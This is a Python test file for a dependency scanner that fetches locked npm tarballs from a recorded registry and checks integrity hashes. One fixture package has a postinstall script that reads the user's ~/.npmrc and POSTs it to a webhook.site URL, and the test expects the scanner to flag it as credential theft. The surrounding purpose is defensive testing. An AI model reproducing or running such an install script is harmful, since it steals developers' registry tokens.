"""--fetch: scripts of locked versions read from a (recorded) registry, never the network."""

from __future__ import annotations

import json
from pathlib import Path

from localregistry import integrity, tgz

from shipwarden.deps.fetch import RegistryFetcher
from shipwarden.deps.scan import DepsOptions, scan_deps
from shipwarden.registry import RecordedTransport, RegistryClient

REGISTRY = "https://registry.example.invalid/"


def _record(rec: Path, name: str, version: str, manifest: dict, files: dict[str, str] | None) -> None:
    entry = dict(manifest)
    dist: dict[str, str] = {}
    if files is not None:
        data = tgz({"package.json": json.dumps(manifest), **files})
        url = f"{REGISTRY}{name}/-/{name}-{version}.tgz"
        dist = {"tarball": url, "integrity": integrity(data)}
        RecordedTransport.record(rec, url, data)
    else:
        dist = {"tarball": f"{REGISTRY}{name}/-/{name}-{version}.tgz", "integrity": "sha512-AAAA"}
    entry["dist"] = dist
    packument = {"name": name, "dist-tags": {"latest": version}, "versions": {version: entry}}
    RecordedTransport.record(rec, REGISTRY + name, json.dumps(packument).encode())


def test_fetch_reads_the_locked_tarball(tmp_path: Path) -> None:
    rec = tmp_path / "rec"
    _record(rec, "quiet-helper", "1.0.0", {"name": "quiet-helper", "version": "1.0.0", "hasInstallScript": True,
                                           "scripts": {"postinstall": "node setup.js"}},
            {"setup.js": "const fs=require('fs'),os=require('os');\n"
                         "const t=fs.readFileSync(os.homedir()+'/.npmrc');\n"
                         "fetch('https://x.webhook.site/a',{method:'POST',body:t});\n"})
    _record(rec, "plain", "2.0.0", {"name": "plain", "version": "2.0.0", "hasInstallScript": False}, None)
    project = tmp_path / "app"
    project.mkdir()
    # yarn.lock records no script flag: only the registry can tell.
    (project / "yarn.lock").write_text(
        "# yarn lockfile v1\n\n\n"
        f'quiet-helper@^1.0.0:\n  version "1.0.0"\n  resolved "{REGISTRY}quiet-helper/-/quiet-helper-1.0.0.tgz"\n\n'
        f'plain@^2.0.0:\n  version "2.0.0"\n  resolved "{REGISTRY}plain/-/plain-2.0.0.tgz"\n'
    )
    transport = RecordedTransport(rec)
    client = RegistryClient(cache_dir=tmp_path / "cache", transport=transport, npm_registry=REGISTRY)
    fetcher = RegistryFetcher(client)
    result = scan_deps(project, DepsOptions(fetcher=fetcher))
    assert fetcher.errors == []
    assert fetcher.fetched == 1  # "plain" was settled by its manifest alone
    finding = next(f for f in result.report.findings if f.rule_id == "deps-credential-theft")
    assert finding.tier.value == "P0"
    assert finding.primary.path == "yarn.lock"
    assert any(loc.path.startswith("quiet-helper@1.0.0.tgz!") for loc in finding.locations)
    assert all(url.startswith(REGISTRY) for url in transport.requests)


def test_fetch_failures_are_scan_errors(tmp_path: Path) -> None:
    project = tmp_path / "app"
    project.mkdir()
    (project / "package-lock.json").write_text(json.dumps({"lockfileVersion": 3, "packages": {
        "node_modules/missing": {"version": "1.0.0", "resolved": f"{REGISTRY}missing/-/missing-1.0.0.tgz", "hasInstallScript": True},
    }}))
    client = RegistryClient(cache_dir=tmp_path / "cache", transport=RecordedTransport(tmp_path / "empty"), npm_registry=REGISTRY)
    fetcher = RegistryFetcher(client)
    result = scan_deps(project, DepsOptions(fetcher=fetcher))
    assert fetcher.errors and fetcher.errors[0].kind == "registry"
    # the lockfile flag is still inventoried
    assert [r.hook.package for r in result.hooks] == ["missing"]


def _quiet_helper(rec: Path) -> bytes:
    manifest = {"name": "quiet-helper", "version": "1.0.0", "hasInstallScript": True,
                "scripts": {"postinstall": "node setup.js"}}
    _record(rec, "quiet-helper", "1.0.0", manifest, {"setup.js": "console.log('hi')\n"})
    return tgz({"package.json": json.dumps(manifest), "setup.js": "console.log('hi')\n"})


def _lock(project: Path, sri: str) -> None:
    project.mkdir(exist_ok=True)
    (project / "package-lock.json").write_text(json.dumps({"lockfileVersion": 3, "packages": {
        "node_modules/quiet-helper": {"version": "1.0.0", "resolved": f"{REGISTRY}quiet-helper/-/quiet-helper-1.0.0.tgz",
                                      "integrity": sri, "hasInstallScript": True},
    }}))


def test_fetch_refuses_a_file_the_lockfile_did_not_pin(tmp_path: Path) -> None:
    """The registry's checksum only proves it sent what it meant to; what gets analysed
    must be what the lockfile installs."""
    rec = tmp_path / "rec"
    data = _quiet_helper(rec)
    client = RegistryClient(cache_dir=tmp_path / "cache", transport=RecordedTransport(rec), npm_registry=REGISTRY)

    _lock(tmp_path / "good", integrity(data))
    fetcher = RegistryFetcher(client)
    scan_deps(tmp_path / "good", DepsOptions(fetcher=fetcher))
    assert fetcher.errors == [] and fetcher.fetched == 1

    _lock(tmp_path / "bad", integrity(b"other bytes"))
    fetcher = RegistryFetcher(client)
    scan_deps(tmp_path / "bad", DepsOptions(fetcher=fetcher))
    assert fetcher.fetched == 0
    assert [e.kind for e in fetcher.errors] == ["registry"]
    assert "does not match any hash the lockfile records" in fetcher.errors[0].message
